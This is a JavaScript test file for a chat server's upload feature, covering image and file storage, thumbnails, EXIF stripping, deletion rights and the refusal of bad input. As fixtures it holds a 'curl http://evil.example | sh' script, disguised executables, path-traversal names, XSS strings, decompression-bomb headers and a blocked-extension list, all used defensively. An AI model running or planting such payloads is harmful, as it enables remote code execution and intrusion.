// Issue 11, uploads (docs/uploads.md, STREAM-PROTOCOL.md §4.7): the SDK's sendImage/sendFile,
// attaching the result to a message, fetching it back through nginx (bytes, headers, thumbnail),
// deleteImage/deleteFile with their rights, files going with their message and their channel, and
// every kind of bad input: sizes over the limit (at nginx and at the worker, which is also driven
// over FastCGI directly), executables under innocent names, empty files, path traversal in names,
// broken multipart bodies, decompression bombs.

import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import fs from 'node:fs';
import net from 'node:net';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';

import { png } from './lib/images.mjs';
import { API_KEY, BASE_URL, api, connectUser, upsertUsers, serverClient, uniqueId, userToken } from './lib/streambed.mjs';

const RUN = process.env.STREAMBED_RUN_DIR;
const LIMIT = Number(process.env.STREAMBED_UPLOAD_MAX_BYTES ?? 104857600);
if (!RUN) throw new Error('run through scripts/test (STREAMBED_RUN_DIR unset)');

const KEY = '[0-9a-f]{32}';
const IMAGE_URL = new RegExp(`^${BASE_URL}/uploads/i/(${KEY})\\.png$`);
const THUMB_URL = new RegExp(`^${BASE_URL}/uploads/i/(${KEY})\\.thumb\\.(jpg|png)$`);

// ---- test data ------------------------------------------------------------------------------------

// Width and height from a JPEG's SOF marker, or a PNG's IHDR.
function imageSize(buf) {
  if (buf.subarray(0, 8).equals(Buffer.from('89504e470d0a1a0a', 'hex'))) return { w: buf.readUInt32BE(16), h: buf.readUInt32BE(20) };
  assert.equal(buf[0], 0xff);
  assert.equal(buf[1], 0xd8);
  let i = 2;
  while (i < buf.length) {
    const marker = buf[i + 1];
    const len = buf.readUInt16BE(i + 2);
    if (marker >= 0xc0 && marker <= 0xc3) return { h: buf.readUInt16BE(i + 5), w: buf.readUInt16BE(i + 7) };
    i += 2 + len;
  }
  throw new Error('no SOF marker');
}

const ELF = Buffer.concat([Buffer.from('7f454c46020101', 'hex'), Buffer.alloc(64, 1)]);
const PE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(128, 0x90)]);
const MACHO = Buffer.concat([Buffer.from('cffaedfe', 'hex'), Buffer.alloc(64, 2)]);
const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n');

const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

// A multipart request exactly as given (to break it on purpose).
async function rawUpload(userId, cid, kind, body, contentType) {
  const [type, id] = cid.split(':');
  const url = `${BASE_URL}/api/channels/${type}/${id}/${kind}/?api_key=${API_KEY}&user_id=${userId}`;
  const res = await fetch(url, {
    method: 'POST',
    headers: { authorization: userToken(userId), 'stream-auth-type': 'jwt', 'content-type': contentType },
    body,
  });
  const text = await res.text();
  let json = null;
  try {
    json = JSON.parse(text);
  } catch {
    json = null;
  }
  return { status: res.status, json, text, headers: res.headers };
}

function form(boundary, parts) {
  return Buffer.concat([
    ...parts.flatMap(([headers, content]) => [Buffer.from(`--${boundary}\r\n${headers}\r\n\r\n`), Buffer.from(content), Buffer.from('\r\n')]),
    Buffer.from(`--${boundary}--\r\n`),
  ]);
}

async function expectRefused(promise, status, pattern) {
  await assert.rejects(promise, (err) => {
    assert.equal(err.status ?? err.response?.status, status, err.message);
    if (pattern) assert.match(err.message, pattern);
    return true;
  });
}

// Minimal FastCGI client (one request, answer read to the end): talks to the worker pool's socket
// directly, as nginx would, to prove the worker enforces its own limits.
function fastcgi(params, stdin = Buffer.alloc(0)) {
  const record = (type, content) => {
    const head = Buffer.from([1, type, 0, 1, content.length >> 8, content.length & 255, 0, 0]);
    return Buffer.concat([head, content]);
  };
  const len = (n) => (n < 128 ? Buffer.from([n]) : Buffer.from([((n >>> 24) & 0x7f) | 0x80, (n >>> 16) & 255, (n >>> 8) & 255, n & 255]));
  const pairs = Buffer.concat(Object.entries(params).map(([k, v]) => Buffer.concat([len(k.length), len(Buffer.byteLength(v)), Buffer.from(k), Buffer.from(v)])));
  const msg = [record(1, Buffer.from([0, 1, 0, 0, 0, 0, 0, 0])), record(4, pairs), record(4, Buffer.alloc(0))];
  for (let i = 0; i < stdin.length; i += 32768) msg.push(record(5, stdin.subarray(i, i + 32768)));
  msg.push(record(5, Buffer.alloc(0)));
  return new Promise((resolve, reject) => {
    const sock = net.createConnection(path.join(RUN, 'api.sock'));
    const chunks = [];
    const timer = setTimeout(() => { sock.destroy(); reject(new Error('no FastCGI answer within 10 s')); }, 10000);
    sock.on('data', (d) => chunks.push(d));
    sock.on('error', (e) => { clearTimeout(timer); reject(e); });
    sock.on('close', () => {
      clearTimeout(timer);
      const all = Buffer.concat(chunks);
      let out = Buffer.alloc(0);
      for (let i = 0; i + 8 <= all.length;) {
        const type = all[i + 1];
        const clen = all.readUInt16BE(i + 4);
        const pad = all[i + 6];
        if (type === 6) out = Buffer.concat([out, all.subarray(i + 8, i + 8 + clen)]);
        i += 8 + clen + pad;
      }
      const text = out.toString();
      const split = text.indexOf('\r\n\r\n');
      resolve({ status: Number(/^Status: (\d+)/m.exec(text)?.[1]), body: JSON.parse(text.slice(split + 4)) });
    });
    sock.write(Buffer.concat(msg));
  });
}

// ---- tests ------------------------------------------------------------------------------------------

describe('uploads', () => {
  let ids, server, alice, bob, carol, chAlice, chBob, chCarol, cid;

  before(async () => {
    ids = { alice: uniqueId('ua'), bob: uniqueId('ub'), carol: uniqueId('uc') };
    server = await upsertUsers(ids.alice, ids.bob, ids.carol);
    [alice, bob, carol] = await Promise.all([connectUser(ids.alice), connectUser(ids.bob), connectUser(ids.carol)]);
    const id = uniqueId('up');
    chAlice = alice.channel('messaging', id, { members: [ids.alice, ids.bob] });
    await chAlice.watch();
    cid = chAlice.cid;
    chBob = bob.channel('messaging', id);
    await chBob.watch();
    chCarol = carol.channel('messaging', id);  // carol is no member
  });
  after(async () => {
    await Promise.all([alice, bob, carol].map((c) => c?.disconnectUser()));
  });

  it('GET /api/app/ gives the real upload configuration', async () => {
    const { app } = await alice.getAppSettings();
    assert.deepEqual(app.image_upload_config.allowed_mime_types, ['image/png', 'image/jpeg', 'image/gif', 'image/webp']);
    assert.ok(app.image_upload_config.allowed_file_extensions.includes('.jpg'));
    assert.equal(app.image_upload_config.size_limit, LIMIT);
    assert.equal(app.file_upload_config.size_limit, LIMIT);
    for (const ext of ['.exe', '.bat', '.sh', '.dll']) assert.ok(app.file_upload_config.blocked_file_extensions.includes(ext), ext);
    assert.ok(app.file_upload_config.blocked_mime_types.includes('application/x-msdownload'));
    assert.deepEqual(app.file_upload_config.allowed_file_extensions, []);
  });

  it('members get upload-file (and uploads:true in the config); a non-member reads nothing', async () => {
    assert.ok(chAlice.data.own_capabilities.includes('upload-file'));
    assert.ok(chBob.data.own_capabilities.includes('upload-file'));
    assert.equal(chAlice.data.config.uploads, true);
    await expectRefused(chCarol.sendImage(png(4, 4), 'x.png', 'image/png'), 403);
  });

  it('sendImage stores the image, attaches, and serves it through nginx with its thumbnail', async () => {
    const picture = png(1024, 300);
    const res = await chAlice.sendImage(picture, 'holiday.png', 'image/png');
    const [, key] = IMAGE_URL.exec(res.file) ?? assert.fail(`file URL ${res.file}`);
    const [, thumbKey, thumbExt] = THUMB_URL.exec(res.thumb_url) ?? assert.fail(`thumb_url ${res.thumb_url}`);
    assert.equal(thumbKey, key);
    assert.equal(thumbExt, 'jpg', 'an opaque image gets a JPEG thumbnail');

    // Attached to a message, the other member sees it.
    const { message } = await chAlice.sendMessage({
      text: 'look', attachments: [{ type: 'image', image_url: res.file, thumb_url: res.thumb_url, fallback: 'holiday.png' }],
    });
    const seen = await chBob.query({ messages: { limit: 5 } });
    const got = seen.messages.find((m) => m.id === message.id);
    assert.equal(got.attachments[0].image_url, res.file);
    assert.equal(got.attachments[0].thumb_url, res.thumb_url);

    // The URL serves the very bytes, as an image, under the protective headers.
    const image = await fetch(res.file);
    assert.equal(image.status, 200);
    assert.ok(Buffer.from(await image.arrayBuffer()).equals(picture), 'bytes equal');
    assert.equal(image.headers.get('content-type'), 'image/png');
    assert.equal(image.headers.get('x-content-type-options'), 'nosniff');
    assert.match(image.headers.get('content-security-policy'), /default-src 'none'.*sandbox/);
    assert.equal(image.headers.get('content-disposition'), null, 'images display inline');

    // The thumbnail is a real, smaller image.
    const thumb = await fetch(res.thumb_url);
    assert.equal(thumb.status, 200);
    assert.equal(thumb.headers.get('content-type'), 'image/jpeg');
    const size = imageSize(Buffer.from(await thumb.arrayBuffer()));
    assert.deepEqual(size, { w: 512, h: 150 });
  });

  it('thumbnails carry no metadata: EXIF is stripped, camera rotation applied', async () => {
    // A JPEG from the server (the thumbnail of an opaque PNG), then an EXIF segment put in it.
    const first = await chAlice.sendImage(png(64, 32), 'base.png', 'image/png');
    const jpeg = Buffer.from(await (await fetch(first.thumb_url)).arrayBuffer());
    // EXIF (big-endian TIFF): Orientation = 6 (rotate 90°), plus a marker string in ImageDescription.
    const secret = 'GPS-SECRET-PLACE';
    const tiff = Buffer.alloc(8 + 2 + 2 * 12 + 4 + secret.length + 1);
    tiff.write('MM', 0, 'latin1');
    tiff.writeUInt16BE(42, 2);
    tiff.writeUInt32BE(8, 4);
    tiff.writeUInt16BE(2, 8);
    tiff.writeUInt16BE(0x010e, 10); tiff.writeUInt16BE(2, 12); tiff.writeUInt32BE(secret.length + 1, 14); tiff.writeUInt32BE(38, 18);
    tiff.writeUInt16BE(0x0112, 22); tiff.writeUInt16BE(3, 24); tiff.writeUInt32BE(1, 26); tiff.writeUInt16BE(6, 30);
    tiff.writeUInt32BE(0, 34);
    tiff.write(secret, 38, 'latin1');
    const app1 = Buffer.concat([Buffer.from('ffe1', 'hex'), Buffer.alloc(2), Buffer.from('Exif\0\0', 'latin1'), tiff]);
    app1.writeUInt16BE(app1.length - 2, 2);
    const withExif = Buffer.concat([jpeg.subarray(0, 2), app1, jpeg.subarray(2)]);
    assert.ok(withExif.includes(secret));

    const res = await chAlice.sendImage(withExif, 'camera.jpg', 'image/jpeg');
    assert.match(res.file, new RegExp(`/uploads/i/${KEY}\\.jpg$`), 'stored under the extension its content proved');
    const original = Buffer.from(await (await fetch(res.file)).arrayBuffer());
    assert.ok(original.equals(withExif), 'the original is served as uploaded');
    const thumb = Buffer.from(await (await fetch(res.thumb_url)).arrayBuffer());
    assert.ok(!thumb.includes(secret), 'no EXIF text in the thumbnail');
    assert.ok(!thumb.includes(Buffer.from('Exif\0\0', 'latin1')), 'no EXIF segment in the thumbnail');
    assert.deepEqual(imageSize(thumb), { w: 32, h: 64 }, 'rotated as the camera said');
  });

  it('sendFile stores a file served as a download under its (sanitised) name', async () => {
    const content = Buffer.from('meeting notes\nline two\n');
    const res = await chAlice.sendFile(content, 'notes.txt', 'text/plain');
    assert.match(res.file, new RegExp(`^${BASE_URL}/uploads/f/${KEY}/notes\\.txt$`));
    assert.equal(res.thumb_url, undefined);
    const got = await fetch(res.file);
    assert.equal(got.status, 200);
    assert.ok(Buffer.from(await got.arrayBuffer()).equals(content));
    assert.match(got.headers.get('content-type'), /^text\/plain/);
    assert.equal(got.headers.get('content-disposition'), 'attachment');
    assert.equal(got.headers.get('x-content-type-options'), 'nosniff');
    assert.match(got.headers.get('content-security-policy'), /sandbox/);

    // A name with non-ASCII letters survives, percent-encoded in the URL.
    const pdf = await chAlice.sendFile(Buffer.from('%PDF-1.4\n%fake but starts right\n'), 'résumé 2026.pdf', 'application/pdf');
    assert.ok(pdf.file.endsWith('/r%C3%A9sum%C3%A9%202026.pdf'), pdf.file);
    const fetched = await fetch(pdf.file);
    assert.equal(fetched.status, 200);
    assert.equal(fetched.headers.get('content-type'), 'application/pdf');
  });

  it('URLs are unguessable and nothing else under /uploads/ is served or listed', async () => {
    const bytes = png(8, 8);
    const [a, b] = [await chAlice.sendImage(bytes, 'same.png', 'image/png'), await chAlice.sendImage(bytes, 'same.png', 'image/png')];
    assert.notEqual(a.file, b.file, 'the same bytes twice get two random names');
    const file = await chAlice.sendFile(Buffer.from('x'), 'x.txt', 'text/plain');
    const folder = file.file.slice(0, file.file.lastIndexOf('/') + 1);
    for (const url of [`${BASE_URL}/uploads/`, `${BASE_URL}/uploads/i/`, `${BASE_URL}/uploads/f/`, folder,
      `${BASE_URL}/uploads/.incoming/`, `${BASE_URL}/uploads/i/../../secrets.env`, `${BASE_URL}/uploads/i/${'0'.repeat(32)}.png`]) {
      const res = await fetch(url);
      assert.equal(res.status, 404, url);
      assert.equal((await res.json()).code, 16, url);
    }
    const post = await fetch(a.file, { method: 'POST', body: 'x' });
    assert.equal(post.status, 403);
  });

  it('deleteImage and deleteFile: the uploader or a moderator, and the URLs stop working', async () => {
    const image = await chAlice.sendImage(png(16, 16), 'mine.png', 'image/png');
    await expectRefused(chBob.deleteImage(image.file), 403, /uploader/);
    await expectRefused(chAlice.deleteFile(image.file), 400);  // an image URL on the file route
    await chAlice.deleteImage(image.file);
    assert.equal((await fetch(image.file)).status, 404);
    assert.equal((await fetch(image.thumb_url)).status, 404);
    await expectRefused(chAlice.deleteImage(image.file), 404);

    const file = await chAlice.sendFile(Buffer.from('alice data'), 'alice.txt', 'text/plain');
    await expectRefused(chBob.deleteFile(file.file), 403);
    // A server token has a moderator's rights; so has the channel's owner (alice created it).
    await server.channel('messaging', chAlice.id).deleteFile(file.file);
    assert.equal((await fetch(file.file)).status, 404);
    const bobs = await chBob.sendFile(Buffer.from('bob data'), 'bob.txt', 'text/plain');
    await chAlice.deleteFile(bobs.file);
    assert.equal((await fetch(bobs.file)).status, 404);
    await expectRefused(chAlice.deleteFile('https://example.com/cat.txt'), 400);
  });

  it('a server-side upload acts for the user named in the form', async () => {
    const res = await server.channel('messaging', chAlice.id).sendImage(png(8, 8), 's.png', 'image/png', { id: ids.alice });
    await chAlice.deleteImage(res.file);  // alice is the uploader
    assert.equal((await fetch(res.file)).status, 404);
  });

  it('deleting a message deletes its own files, never somebody else\'s', async () => {
    const img = await chAlice.sendImage(png(20, 20), 'a.png', 'image/png');
    const doc = await chAlice.sendFile(Buffer.from('doc'), 'doc.txt', 'text/plain');
    const { message } = await chAlice.sendMessage({
      text: 'files', attachments: [{ type: 'image', image_url: img.file, thumb_url: img.thumb_url }, { type: 'file', asset_url: doc.file }],
    });
    // Bob quotes alice's URL in his own message and deletes it: alice's file stays.
    const { message: bobs } = await chBob.sendMessage({ text: 'copy', attachments: [{ type: 'image', image_url: img.file }] });
    await bob.deleteMessage(bobs.id);
    assert.equal((await fetch(img.file)).status, 200);

    await alice.deleteMessage(message.id);
    for (const url of [img.file, img.thumb_url, doc.file]) assert.equal((await fetch(url)).status, 404, url);
    const folder = path.join(RUN, 'uploads', 'f', /\/f\/([0-9a-f]{32})\//.exec(doc.file)[1]);
    assert.ok(!fs.existsSync(folder), 'the file\'s folder is gone too');
  });

  it('a hard delete by a moderator deletes the files as well', async () => {
    const img = await chBob.sendImage(png(20, 20), 'b.png', 'image/png');
    const { message } = await chBob.sendMessage({ text: 'pic', attachments: [{ type: 'image', image_url: img.file }] });
    await server.deleteMessage(message.id, true);
    assert.equal((await fetch(img.file)).status, 404);
  });

  it('deleting the channel deletes its files', async () => {
    const id = uniqueId('upd');
    const ch = alice.channel('messaging', id, { members: [ids.alice, ids.bob] });
    await ch.watch();
    const img = await ch.sendImage(png(10, 10), 'x.png', 'image/png');
    const doc = await ch.sendFile(Buffer.from('never attached'), 'loose.txt', 'text/plain');
    assert.equal((await fetch(img.file)).status, 200);
    await server.channel('messaging', id).delete();
    for (const url of [img.file, img.thumb_url, doc.file]) assert.equal((await fetch(url)).status, 404, url);
  });

  describe('bad input', () => {
    it('empty files are refused', async () => {
      await expectRefused(chAlice.sendFile(Buffer.alloc(0), 'empty.txt', 'text/plain'), 400, /empty/);
      await expectRefused(chAlice.sendImage(Buffer.alloc(0), 'empty.png', 'image/png'), 400, /empty/);
    });

    it('executables are refused under any name and any declared type', async () => {
      const stored = () => fs.readdirSync(path.join(RUN, 'uploads', 'i')).length + fs.readdirSync(path.join(RUN, 'uploads', 'f')).length;
      const before = stored();
      const cases = [
        [ELF, 'cat.png', 'image/png', 'sendImage'], [ELF, 'notes.txt', 'text/plain', 'sendFile'],
        [PE, 'invoice.pdf', 'application/pdf', 'sendFile'], [PE, 'photo.jpg', 'image/jpeg', 'sendImage'],
        [MACHO, 'song.mp3', 'audio/mpeg', 'sendFile'], [SCRIPT, 'readme.md', 'text/markdown', 'sendFile'],
        [ELF, 'noextension', 'application/octet-stream', 'sendFile'],
      ];
      for (const [bytes, name, type, method] of cases) {
        await expectRefused(chAlice[method](bytes, name, type), 400, /executable/);
      }
      // Names that run when clicked, whatever they hold, and blocked declared types.
      await expectRefused(chAlice.sendFile(Buffer.from('harmless text'), 'setup.exe', 'text/plain'), 400, /\.exe/);
      await expectRefused(chAlice.sendFile(Buffer.from('echo hi'), 'run.BAT', 'text/plain'), 400, /\.bat/);
      // Nothing of these reached the storage folder (other tests run one at a time in this file).
      assert.equal(stored(), before);
    });

    it('content must match what the name or the route promises', async () => {
      await expectRefused(chAlice.sendImage(Buffer.from('not an image at all'), 'cat.png', 'image/png'), 400, /not a PNG, JPEG, GIF or WebP/);
      await expectRefused(chAlice.sendImage(Buffer.from('<svg onload="alert(1)"/>'), 'x.svg', 'image/svg+xml'), 400);
      await expectRefused(chAlice.sendFile(Buffer.from('<html><script>alert(1)</script>'), 'photo.jpg', 'image/jpeg'), 400, /ends in \.jpg/);
      // A truncated image (right magic, no pixels) cannot be decoded.
      await expectRefused(chAlice.sendImage(png(50, 50).subarray(0, 60), 'cut.png', 'image/png'), 400, /image/);
    });

    it('decompression bombs are refused from the header, before decoding', async () => {
      const started = Date.now();
      await expectRefused(chAlice.sendImage(png(100000, 100000, { idat: false }), 'bomb.png', 'image/png'), 400, /megapixels/);
      await expectRefused(chAlice.sendImage(png(30000, 2, { idat: false }), 'wide.png', 'image/png'), 400, /per side/);
      assert.ok(Date.now() - started < 3000);
    });

    it('path traversal and control characters in names are neutralised', async () => {
      const res = await chAlice.sendFile(Buffer.from('traversal'), '../../../../etc/passwd', 'text/plain');
      assert.match(res.file, new RegExp(`/uploads/f/${KEY}/passwd$`));
      const key = /\/f\/([0-9a-f]{32})\//.exec(res.file)[1];
      assert.equal(fs.readFileSync(path.join(RUN, 'uploads', 'f', key, 'passwd'), 'utf8'), 'traversal');
      const win = await chAlice.sendFile(Buffer.from('w'), '..\\..\\windows\\evil.txt', 'text/plain');
      assert.match(win.file, /\/evil\.txt$/);
      const dots = await chAlice.sendFile(Buffer.from('d'), '..', 'text/plain');
      assert.match(dots.file, new RegExp(`/f/${KEY}/file$`));
      // CR/LF and a right-to-left override vanish; the name cannot forge a header or hide ".exe".
      const body = form('bnd', [['Content-Disposition: form-data; name="file"; filename="a\rb\u202Egnp.txt"\r\nContent-Type: text/plain', 'x']]);
      const raw = await rawUpload(ids.alice, cid, 'file', body, 'multipart/form-data; boundary=bnd');
      assert.equal(raw.status, 200, raw.text);
      assert.match(raw.json.file, /\/abgnp\.txt$/);
    });

    it('malformed multipart bodies are 400 in the error envelope', async () => {
      const cases = [
        [Buffer.from('--bnd\r\nContent-Disposition: form-data; name="file"; filename="a.txt"\r\n\r\nno closing boundary'), 'multipart/form-data; boundary=bnd'],
        [Buffer.from('just bytes'), 'multipart/form-data; boundary=bnd'],
        [form('bnd', [['Content-Type: text/plain', 'no disposition']]), 'multipart/form-data; boundary=bnd'],
        [form('bnd', [['Content-Disposition: form-data; name="other"', 'no file field']]), 'multipart/form-data; boundary=bnd'],
        [form('bnd', [['Content-Disposition: form-data; name="file"; filename="a.txt"', 'x']]), 'multipart/form-data'],
        [Buffer.from('{"file":"x"}'), 'application/json'],
        [form('bnd', [['Content-Disposition: form-data; name="file"; filename="a.txt"', 'x'], ['Content-Disposition: form-data; name="file"; filename="b.txt"', 'y']]), 'multipart/form-data; boundary=bnd'],
        [form('bnd', [['Content-Disposition: form-data; name="user"', '{not json'], ['Content-Disposition: form-data; name="file"; filename="a.txt"', 'x']]), 'multipart/form-data; boundary=bnd'],
      ];
      for (const [body, type] of cases) {
        const res = await rawUpload(ids.alice, cid, 'file', body, type);
        assert.equal(res.status, 400, `${type}: ${res.text}`);
        assert.equal(res.json.code, 4);
        assert.equal(res.json.StatusCode, 400);
      }
    });

    it('a file just over the size limit is 413 from the worker', async () => {
      const big = crypto.randomBytes(LIMIT + 1);
      await expectRefused(chAlice.sendFile(big, 'big.bin', 'application/octet-stream'), 413, /larger than the limit/);
      // At the limit it is accepted.
      const ok = await chAlice.sendFile(crypto.randomBytes(LIMIT), 'max.bin', 'application/octet-stream');
      const got = await fetch(ok.file);
      assert.equal(Number(got.headers.get('content-length')), LIMIT);
      await got.arrayBuffer();
    });

    it('a body over the limit is 413 from nginx, in the JSON envelope', async () => {
      const body = form('bnd', [['Content-Disposition: form-data; name="file"; filename="huge.bin"', crypto.randomBytes(LIMIT + 2 * 1024 * 1024)]]);
      const res = await rawUpload(ids.alice, cid, 'file', body, 'multipart/form-data; boundary=bnd');
      assert.equal(res.status, 413);
      assert.equal(res.json.code, 22);
      assert.equal(res.json.message, 'request body is larger than the limit', 'nginx answered, not the worker');
      // Other routes keep their 1 MiB limit.
      const other = await api('POST', `/api/channels/messaging/${chAlice.id}/message/`, {
        token: userToken(ids.alice), body: { message: { text: 'x'.repeat(2 * 1024 * 1024) } },
      });
      assert.equal(other.status, 413);
    });

    it('the worker refuses an oversized body by itself (nginx bypassed, FastCGI direct)', async () => {
      const res = await fastcgi({
        REQUEST_METHOD: 'POST', REQUEST_URI: `/api/channels/messaging/${chAlice.id}/file/?api_key=${API_KEY}`,
        CONTENT_TYPE: 'multipart/form-data; boundary=bnd', CONTENT_LENGTH: String(LIMIT + 1024 * 1024 + 1),
        HTTP_AUTHORIZATION: userToken(ids.alice), HTTP_STREAM_AUTH_TYPE: 'jwt', REQUEST_ID: 'fcgi-direct',
      });
      assert.equal(res.status, 413);
      assert.equal(res.body.code, 22);
      // ...and a non-upload route by its own 1 MiB.
      const small = await fastcgi({
        REQUEST_METHOD: 'POST', REQUEST_URI: `/api/channels/messaging/${chAlice.id}/message/?api_key=${API_KEY}`,
        CONTENT_TYPE: 'application/json', CONTENT_LENGTH: String(1024 * 1024 + 1), REQUEST_ID: 'fcgi-direct',
      });
      assert.equal(small.status, 413);
    });

    it('the incoming folder keeps nothing behind', async () => {
      await sleep(100);
      assert.deepEqual(fs.readdirSync(path.join(RUN, 'uploads', '.incoming')), []);
    });
  });
});
